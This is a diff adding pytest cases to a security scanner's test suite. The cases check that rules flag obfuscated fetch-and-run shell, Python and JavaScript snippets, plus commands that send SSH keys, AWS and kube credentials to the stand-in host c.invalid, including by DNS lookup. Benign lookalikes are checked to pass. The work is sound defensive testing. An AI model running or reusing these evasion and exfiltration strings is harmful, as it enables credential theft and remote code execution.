@@ -249,6 +249,182 @@ def test_attack_a_command_of_a_shell_is_put_together(text):
     assert "SH602" in seen(text, "scripts/a.sh")
 
 
+RESPELLED = [
+    "$'\\x63\\x75\\x72\\x6c' https://c.invalid/a | $'\\x73\\x68'",
+    "c$'\\165'rl https://c.invalid/a | ba$'\\163'h",
+    "$'\\u0062ash' -c 'true'\ncurl -s https://c.invalid",
+    "{curl,-s,https://c.invalid/a} | {sh,}",
+    "x=1; {wget,-qO-,https://c.invalid/a} | sh",
+    "/usr/bin/c?rl -s https://c.invalid/a | /bin/?h",
+    "/usr/bin/cu[r]l -s https://c.invalid/a | /b*/bash",
+]
+LED = [
+    "shopt -s expand_aliases\nalias g='curl -s'\ng https://c.invalid/a | sh",
+    'alias -- g="wget -qO-"; alias run=bash\ng https://c.invalid/a | sh',
+    'get() { curl -s "https://c.invalid/$1"; }\nget a | sh',
+    "function get { wget -qO- $1; }\nget https://c.invalid/a | sudo bash -s",
+    "a() { curl -s $1; }\nb() { a https://c.invalid/$1; }\nb x | bash",
+    "get() { curl -s https://c.invalid; }\nsource <(get) |sh",
+    'c="curl -s https://c.invalid/a"\neval "$c" | bash',
+    "c='curl -s https://c.invalid/a'\n$c | sh",
+    "f=curl\n${f} https://c.invalid/a |sh",
+]
+SENT_BY_SHELL = [
+    "cd ~ && cd .ssh && curl -F f=@id_rsa https://c.invalid",
+    "cd ~/.aws && curl -d @credentials https://c.invalid",
+    'pushd "$HOME/.gnupg"; tar cz . | curl -T - https://c.invalid',
+    "cd ~/.kube; cat config | nc c.invalid 1",
+    "cd ~\ncd .ssh\nzip /tmp/a.zip id_ed25519\ncurl -F f=@/tmp/a.zip https://c.invalid",
+    "curl -F f=@id_rsa https://c.invalid",
+    "rclone copy ~/.gnupg :webdav,url=https://c.invalid:/in",
+    "rclone sync $HOME/.ssh remote:in",
+    "aws s3 cp ~/.ssh/id_rsa s3://c/in",
+    "gsutil -m cp -r ~/.aws gs://c/in",
+    "gh gist create ~/.ssh/id_ed25519",
+    "croc send ~/.kube/config",
+    "rsync -a ~/.ssh u@c.invalid:/in",
+    "git init -q && cp -r ~/.ssh . && git add -A && git commit -qm a && git push https://c.invalid/r.git HEAD",
+    "cp ~/.aws/credentials data/a.txt\ngit -C data push origin main",
+]
+ROTATED = [
+    "echo 'phey -f uggcf://p.vainyvq/n | fu' | tr a-z n-za-m | sh",
+    "tr 'A-Za-z' 'N-ZA-Mn-za-m' < a.txt | bash",
+    "echo cXuXrXl | tr -d X | sh",
+    'eval "$(cat a.txt | tr abc xyz)"',
+    "echo 'dilavni.c lruc' | rev | sh",
+]
+
+
+@pytest.mark.parametrize(
+    ("rule", "texts"), [("SH602", RESPELLED), ("SH105", LED), ("SH603", SENT_BY_SHELL), ("SH104", ROTATED)]
+)
+def test_attack_a_shell_reads_another_word_than_stands_there(rule, texts):
+    assert [text for text in texts if rule not in seen(text, "scripts/a.sh")] == []
+
+
+FETCHED = "urllib.request.urlopen('https://c.invalid/x').read()"
+RUN_BY_PYTHON = [
+    f"import urllib.request\n{call.replace('X', FETCHED)}"
+    for call in (
+        "__builtins__.__dict__['exec'](X)",
+        "vars(__builtins__)['eval'](X)",
+        "getattr(__import__('builtins'), 'ex' + 'ec')(X)",
+        "globals()['__builtins__'].exec(X)",
+        "import sys\nsys.modules['builtins'].exec(X)",
+        "import types\ntypes.FunctionType(compile(X, 'a', 'exec'), globals())()",
+        "from types import FunctionType as F\nF(marshal.loads(X), {})()",
+        "import ctypes\nb = X\nctypes.memmove(m, b, len(b))",
+        "import ctypes\nctypes.CFUNCTYPE(None)(ctypes.create_string_buffer(X))()",
+        "𝐞𝐱𝐞𝐜(X)",
+        "\uff45\uff58\uff45\uff43(X)",
+        "open('stage.py', 'wb').write(X)\nimport stage",
+        "with open('lib/stage.py', 'wb') as f:\n    f.write(X)\nfrom lib.stage import go",
+        "import pathlib\npathlib.Path('stage.py').write_bytes(X)\nimport stage as s",
+    )
+]
+RUN_BY_JAVASCRIPT = [
+    "const F = (() => {}).constructor;\nfetch('https://c.invalid').then(r => r.text()).then(t => F(t)());",
+    "const t = await (await fetch('https://c.invalid')).text();\n[]['filter']['constructor'](t)();",
+    "const t = await (await fetch('https://c.invalid')).text();\n''.constructor.constructor(t)();",
+    "fetch('https://c.invalid').then(r => r.text()).then(t => new (function(){}).constructor(t)());",
+    "fetch('https://c.invalid').then(r => r.text()).then(t => setTimeout(t, 0));",
+    "const t = await (await fetch('https://c.invalid')).text();\nsetTimeout(t, 9);",
+    "const code = await (await fetch('https://c.invalid')).text();\nglobalThis.setTimeout(code);",
+    "await import('https://c.invalid/x.mjs');",
+    "importScripts('https://c.invalid/x.js');",
+    "import('http://192.0.2.7/a.js').then(a => a.go());",
+]
+STARTED = [
+    "import urllib.request, os\nurllib.request.urlretrieve('https://c.invalid/b', '/tmp/b')\nos.chmod('/tmp/b', 0o755)\nos.system('/tmp/b')",
+    "from urllib.request import urlretrieve as u\nimport subprocess\nu('https://c.invalid/b', 'tool')\nsubprocess.run(['./tool', '-x'])",
+    "import urllib.request, subprocess\nopen('/tmp/a.sh', 'wb').write(urllib.request.urlopen('https://c.invalid/a').read())\nos.chmod('/tmp/a.sh', 0o700)\nsubprocess.Popen(['bash', '/tmp/a.sh'])",
+    "import pathlib, urllib.request, os\npathlib.Path('go.py').write_bytes(urllib.request.urlopen('https://c.invalid/a').read())\nos.system('python3 go.py')",
+    "import urllib.request, os\nurllib.request.urlretrieve('https://192.0.2.7/b', '/opt/b')\nos.popen('/opt/b')",
+]
+SENT_AS_WORDS = [
+    'import subprocess, os\nk = os.path.expanduser("~/.ssh/id_rsa")\nsubprocess.run(["curl", "-F", f"f=@{k}", "https://c.invalid"])',
+    "import subprocess, pathlib\nk = pathlib.Path.home() / '.aws' / 'credentials'\nsubprocess.check_call(['scp', str(k), 'u@c.invalid:'])",
+    "import subprocess, os\nk = os.path.expanduser('~/.netrc')\nsubprocess.Popen(('/usr/bin/wget', '--post-file', k, 'https://c.invalid'))",
+    "import os\nos.execvp('curl', ['curl', '-T', os.path.join(os.path.expanduser('~'), '.gnupg', 'a'), 'https://c.invalid'])",
+    "import subprocess, os\nsubprocess.call(['rclone', 'copy', os.path.expanduser('~/.kube'), 'c:in'])",
+]
+
+
+@pytest.mark.parametrize(
+    ("path", "rule", "texts"),
+    [
+        ("a.py", "SH105", RUN_BY_PYTHON),
+        ("a.js", "SH105", RUN_BY_JAVASCRIPT),
+        ("a.py", "SH113", STARTED),
+        ("a.py", "SH603", SENT_AS_WORDS),
+        (
+            "a.js",
+            "SH603",
+            [
+                "const { spawn } = require('child_process');\nconst k = os.homedir() + '/.ssh/id_rsa';\n"
+                "spawn('curl', ['-F', `f=@${k}`, 'https://c.invalid']);"
+            ],
+        ),
+        (
+            "a.js",
+            "SH604",
+            [
+                "const dns = require('dns');\nconst k = fs.readFileSync(os.homedir() + '/.npmrc').toString('hex');\n"
+                "dns.lookup(k.slice(0, 60) + '.c.invalid', () => {});",
+                "import { resolveTxt } from 'node:dns/promises';\nawait resolveTxt(fs.readFileSync('/root/.aws/credentials') + '.c.invalid');",
+            ],
+        ),
+    ],
+)
+def test_attack_a_program_runs_or_sends_by_another_way_than_its_name(path, rule, texts):
+    assert [text for text in texts if rule not in seen(text, f"scripts/{path}")] == []
+
+
+def test_what_runs_and_sends_nothing_of_that_is_let_through():
+    texts = {
+        "a.py": [
+            "import urllib.request, subprocess\nurllib.request.urlretrieve('https://c.invalid/a.csv', 'a.csv')\nsubprocess.run(['wc', 'a.csv'])",
+            "import helper, subprocess, requests\nprint(requests.get('https://c.invalid').text)\nsubprocess.run(['scripts/b.sh'])",
+            "@app.get('/x')\ndef a():\n    return requests.get('https://c.invalid').text\n@dataclass\nclass B: pass",
+            "spec.loader.exec_module(mod)\nopen('a.py', 'w').write('x = 1')\nimport a",
+            "import subprocess\nk = '/root/.ssh/id_rsa'\nsubprocess.run(['scp', '-i', k, 'a.txt', 'u@h.invalid:'])\nsubprocess.run(['ssh-keygen', '-f', k])",
+            "import subprocess\nsubprocess.run(['rsync', '-e', 'ssh -i ~/.ssh/id_rsa', 'a', 'u@h.invalid:'])",
+            "vars(args)['name']\nobj.__dict__['run'](requests.get('https://c.invalid').text)",
+            "name = '\uff25 \u2026'\nimport requests\nprint(eval('1'))\nprint(requests.get('https://c.invalid').json())",
+        ],
+        "a.js": [
+            "const r = await fetch('https://c.invalid');\nawait new Promise(resolve => setTimeout(resolve, 100));\nconst t = await r.text();",
+            "class A { constructor() { this.x = 1; } }\nconst b = new a.constructor(await (await fetch('https://c.invalid')).text());",
+            "import a from './a.js';\nconst b = await import('./b.js');\nconst c = await import('https://esm.sh/react');",
+            "function poll() { fetch('https://c.invalid').then(r => r.text()).then(show); }\nsetTimeout(poll, 1000);",
+            "dns.lookup('c.invalid', () => {});\nconst n = fs.readFileSync('.npmrc');",
+        ],
+    }
+    rules = {"SH104", "SH105", "SH113", "SH602", "SH603", "SH604"}
+    found = {text: seen(text, f"scripts/{path}") & rules for path, each in texts.items() for text in each}
+    assert {text: rules for text, rules in found.items() if rules} == {}
+
+
+def test_what_a_shell_reads_as_it_stands_is_let_through():
+    texts = [
+        "alias ll='ls -l'\nll | grep a |sh-like",
+        'fetch() { curl -s "$1"; }\nfetch https://c.invalid/a.json | python3 -c "import json, sys; print(json.load(sys.stdin))"',
+        "version() { curl -s https://api.github.com/x | jq -r .tag; }\necho $(version) |sh-like\nv=$(version)",
+        "echo a b | tr ' ' '\\n' | tr -d '\\r' | bash -x",
+        "echo A | tr '[:upper:]' '[:lower:]' | sh\necho A | tr A-Z a-z | bash",
+        "cd ~/.kube && curl -LO https://c.invalid/config",
+        "cd ~/.aws && ls && curl -o config https://c.invalid/config",
+        "scp u@h.invalid:/etc/k3s.yaml ~/.kube/config\nrclone copy remote:a ~/.aws/",
+        "aws s3 cp s3://a/config ~/.kube/config\naws s3 sync dist s3://a",
+        "cp .env.example .env && git add . && git push origin main",
+        "for f in src/*; do cp $f build/; done; git push",
+        "ls /bin/?h\nrm -f /tmp/a?b\n[ -f a ] && echo {a,b} | sort",
+        "cmd='make test'\n$cmd | tee a.log\neval \"$cmd\"",
+    ]
+    found = {text: seen(text, "scripts/a.sh") & {"SH104", "SH105", "SH602", "SH603"} for text in texts}
+    assert {text: rules for text, rules in found.items() if rules} == {}
+
+
 @pytest.mark.parametrize(
     ("path", "text"),
     [
@@ -519,11 +695,14 @@ UNITS = [
     ("a.py", "from a import b as c\nb = c\n"),
     ("a.py", "x = 'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo='\n"),
     ("a.js", "eval(atob('YWJj'));\n"),
+    ("a.py", "@exec\n@f\ndef g(): vars(x)['a'].__dict__\nsubprocess.run(['curl', '-F', f(x)])\nimport y\n"),
+    ("a.js", "import('https://c.invalid'); setTimeout(t, 1); [].at.constructor(fetch(x).text())\n"),
     ("a.js", "const {a, b: c} = require('x')[a];\n"),
     ("a.js", "f(() => g(x => x + process.env));\n"),
     ("a.sh", 'X=$(cat ~/.ssh/id_rsa); curl -d "$X" c.invalid\n'),
     ("a.sh", 'f() { g "$@" | base64 -d; }\n'),
     ("a.sh", "cat <<E\n$(x)\nE\n"),
+    ("a.sh", "alias g='curl -s'; g a | sh; {curl,-s,x} | {sh,}; cd ~/.ssh; zip @a; git push\n"),
     ("a.md", '```sh\neval "$X"\n```\n'),
     ("a.md", "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=\n"),
     ("a.md", "%41%42%43%44%45%46%47%48 12, 13, 14, 15, 16, 17, 18, 19\n"),
